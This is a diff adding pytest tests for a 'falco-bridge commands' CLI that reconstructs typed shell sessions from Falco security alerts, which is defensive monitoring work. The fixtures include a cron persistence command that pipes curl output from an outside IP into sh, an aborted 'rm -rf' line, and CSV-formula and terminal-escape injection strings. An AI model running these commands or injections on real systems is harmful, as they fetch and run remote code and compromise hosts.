@@ -1,0 +1,110 @@
+"""``falco-bridge commands`` as a user types it."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+from bridge.alert.forms.falco_json import falco_json
+from bridge.terminal.derived import alert_of
+from bridge.terminal.terminals import commands_of
+from tests.cli.commands import run
+from tests.support.terminals import DATA, RECORDINGS, Typist, secrets
+
+BASH, DASH = DATA / "bash-80.alerts.jsonl.gz", DATA / "dash-80.alerts.jsonl.gz"
+
+
+def test_a_recording_is_shown_by_session() -> None:
+    """What was typed, what it ran and wrote, where and as whom."""
+    shown = run("commands", "--from", BASH).stdout
+    lines = shown.splitlines()
+    assert lines[0] == "prod/api-0 on node-a  root"
+    assert lines[1].startswith("  2026-11-27 14:34:28 UTC, 85 commands in 64 s, session ")
+    assert lines[2:4] == ['  14:34:28  echo "hello world" > example.txt', "            wrote /home/alice/example.txt"]
+    assert "  14:34:32  ls / | head -3\n            ran head -3 · ls /\n" in shown
+    assert "  14:34:47  rm -rf /never-run  (^C, not run)\n" in shown
+    assert all(secret not in shown for secret in secrets("bash-80"))
+
+
+def test_commands_are_chosen_by_a_condition_and_by_place() -> None:
+    """The exit codes are those of grep."""
+    condition = 'cmd.wrote endswith "/cron.x" and cmd.text startswith echo'
+    found = run("commands", condition, "--json", "--from", *(DATA / f"{name}.alerts.jsonl.gz" for name in RECORDINGS))
+    records = [json.loads(line) for line in found.stdout.splitlines()]
+    assert {(each["pod"], each["text"]) for each in records} == {
+        (pod, 'echo "* * * * * root curl http://192.0.2.7/x|sh" > cron.x') for pod in {each["pod"] for each in records}
+    }
+    assert len(records) == len(RECORDINGS)
+    record = json.loads(run("commands", condition, "--json", "--from", BASH).stdout)
+    assert record.items() >= {
+        "source": "painted", "confidence": 0.9, "ran": [], "wrote": ["/home/alice/sub/cron.x"], "exit": None,
+        "aborted": False, "hidden_keys": 0, "namespace": "prod", "pod": "api-0", "node": "node-a", "user": "root",
+        "who": [], "shell": "bash",
+    }.items()  # fmt: skip
+    assert run("commands", "--pod", "prod/api-0", "--from", BASH).returncode == 0
+    for option in (("--pod", "prod/other"), ("--node", "x"), ("--user", "alice"), ("--session", "0000")):
+        assert run("commands", *option, "--from", BASH).returncode == 1
+    assert run("commands", "cmd.text = nothing", "--from", BASH).returncode == 1
+    wrong = run("commands", "cmd.txt = x", "--from", BASH)
+    assert wrong.returncode == 2
+    assert "did you mean `cmd.text`?" in wrong.stderr
+
+
+def test_one_session_is_shown_whole_by_an_id() -> None:
+    """Its own, or that of one of its commands."""
+    record = json.loads(run("commands", "cmd.text = pwd", "--json", "--from", DASH, BASH).stdout.splitlines()[0])
+    whole = run("commands", "show", record["id"], "--from", BASH, DASH).stdout
+    assert whole == run("commands", "show", record["session"][:8], "--from", BASH, DASH).stdout
+    assert whole == run("commands", "--session", record["session"], "--from", BASH, DASH).stdout
+    assert run("commands", "show", "ffffffff", "--from", BASH).returncode == 1
+    assert run("commands", "show", "--from", BASH).returncode == 2
+    assert run("commands", "cmd.text", "=", "x", "--from", BASH).returncode == 2
+
+
+def test_csv_has_no_formulas_and_text_no_control_characters(tmp_path: Path) -> None:
+    """What was typed is what an attacker wrote."""
+    shell = Typist(pod="a\x1b]0;b\x07")
+    shell.start()
+    for text in ("=HYPERLINK(1)", "-x", 'a "b", c'):
+        shell.type(text)
+        shell.show_prompt()
+    path = tmp_path / "alerts.jsonl"
+    path.write_text("\n".join(json.dumps(falco_json(each), default=_raw) for each in shell.alerts), encoding="utf-8")
+    table = list(csv.DictReader(io.StringIO(run("commands", "--csv", "--from", path).stdout)))
+    assert [row["text"] for row in table] == ["'=HYPERLINK(1)", "'-x", 'a "b", c']
+    shown = run("commands", "--from", path).stdout
+    assert "\x1b" not in shown
+    assert r"a\x1b]0;b\x07" in shown
+
+
+def test_alerts_of_commands_are_shown_as_they_are(tmp_path: Path) -> None:
+    """As exported from a bridge: the same as the recording that they were made of."""
+    shell = Typist()
+    shell.start()
+    shell.type("echo x > /etc/cron.d/x")
+    shell.write_file("/etc/cron.d/x")
+    shell.run("id", 300)
+    made = [alert_of(each) for each in commands_of(shell.alerts)]
+    for name, alerts in (("raw", shell.alerts), ("made", made)):
+        text = "\n".join(json.dumps(falco_json(each), default=_raw) for each in alerts)
+        (tmp_path / name).write_text(text, encoding="utf-8")
+    shown = run("commands", "--json", "--from", tmp_path / "raw").stdout
+    assert json.loads(shown)["ran"] == ["id"]
+    again = json.loads(run("commands", "--json", "--from", tmp_path / "made").stdout)
+    assert {**again, "id": ""} == {**json.loads(shown), "id": ""}
+
+
+def test_a_broken_gzip_file_is_reported(tmp_path: Path) -> None:
+    """And a file that is not there."""
+    (tmp_path / "cut.gz").write_bytes(BASH.read_bytes()[:5000])
+    for name in ("cut.gz", "none.gz"):
+        found = run("commands", "--from", tmp_path / name)
+        assert found.returncode == 2
+        assert found.stderr.startswith("falco-bridge commands: ")
+        assert name in found.stderr
+
+
+def _raw(value: object) -> object:
+    return json.loads(bytes(value))  # type: ignore[call-overload]
